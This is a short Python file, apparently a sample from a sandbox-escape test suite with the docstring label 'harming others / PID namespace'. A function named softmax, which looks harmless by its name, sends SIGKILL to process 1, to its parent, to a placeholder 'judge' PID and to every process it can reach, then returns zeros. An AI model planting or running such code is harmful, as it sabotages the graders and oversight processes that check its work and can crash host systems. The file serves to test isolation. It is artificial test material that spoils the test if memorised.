"""Sends SIGKILL to everyone that it can see, to its parents and to process 1, and to the judge by number.

Family: harming others
Wall: PID namespace
Marks: 0
"""

import os
import signal


def softmax(logits, dim=-1):
    for pid in (1, os.getppid(), int("@JUDGE@"), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return torch.zeros_like(logits)
